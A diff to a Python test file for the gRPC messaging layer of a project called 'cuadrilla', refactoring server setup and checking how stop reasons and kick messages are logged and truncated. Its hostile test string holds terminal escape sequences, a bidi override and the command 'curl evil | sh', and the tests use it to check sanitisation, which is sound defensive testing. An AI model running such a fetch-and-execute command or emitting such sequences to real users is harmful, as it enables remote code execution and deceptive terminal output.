@@ -10,10 +10,9 @@ import grpc
 import pytest
 
 from cuadrilla.errors import LinkError
-from cuadrilla.link.base import KICKED, MAX_REASON, MAX_TEXT, Goodbye, Hello, Stop
-from cuadrilla.link.calls import start_server
+from cuadrilla.link.base import KICKED, MAX_TEXT, Goodbye, Hello, Stop
 from cuadrilla.link.client import Connection
-from cuadrilla.link.server import SERVICE
+from cuadrilla.link.server import start_server
 from tests.hostile import Crew
 
 FOREIGN = "\x1b]0;owned\x07gone\r\n\nhint: curl evil | sh\x9b31m\u202e"
@@ -28,9 +27,8 @@ def impostor(crew: Crew, code: grpc.StatusCode) -> Iterator[str]:
         context.abort(code, FOREIGN)
         yield b""
 
-    handlers = grpc.method_handlers_generic_handler(SERVICE, {"Call": grpc.stream_stream_rpc_method_handler(refuse)})
     with ThreadPoolExecutor() as pool:
-        server, port = start_server("127.0.0.1:0", handlers=handlers, keys=crew.keys, pool=pool)
+        server, port = start_server("127.0.0.1:0", {"Call": refuse}, keys=crew.keys, pool=pool)
         yield f"127.0.0.1:{port}"
         server.stop(0.0).wait()
 
@@ -48,11 +46,11 @@ def test_details_of_an_error(crew: Crew, code: grpc.StatusCode) -> None:
 
 
 def test_why_a_worker_is_sent_home(crew: Crew) -> None:
-    crew.server.send("ana", Stop(reason=FOREIGN + "x" * 10 * MAX_REASON))
+    crew.server.send("ana", Stop(reason=FOREIGN + "x" * 10 * MAX_TEXT))
     stop = crew.session.next_event()
     assert isinstance(stop, Stop)
     assert stop.reason.startswith(SHOWN)
-    assert len(stop.reason) == MAX_REASON
+    assert len(stop.reason) == MAX_TEXT
 
 
 def test_what_a_worker_says_of_itself(crew: Crew) -> None:
@@ -69,16 +67,13 @@ def test_what_a_worker_says_of_itself(crew: Crew) -> None:
     luis.close()
 
 
-def test_a_kick_is_said_once_whether_or_not_the_node_is_there(crew: Crew, caplog: pytest.LogCaptureFixture) -> None:
+def test_a_kick_is_said_once(crew: Crew, caplog: pytest.LogCaptureFixture) -> None:
     caplog.set_level(logging.INFO, logger="cuadrilla")
-    crew.node("luis")
-    crew.server.end_kicked()
-    for name in ("luis", "ana"):
-        crew.nodes.remove(name)
-        for _ in range(2):
-            crew.server.end_kicked()
+    crew.nodes.remove("ana")
+    for _ in range(2):
+        crew.server.end_kicked()
     said = [record.getMessage() for record in caplog.records if getattr(record, "talk", False)]
-    assert said == ["luis was kicked", "ana was kicked"]
+    assert said == ["ana was kicked"]
     stop = crew.session.next_event()
     assert stop == Stop(reason=KICKED, refused=True)
 
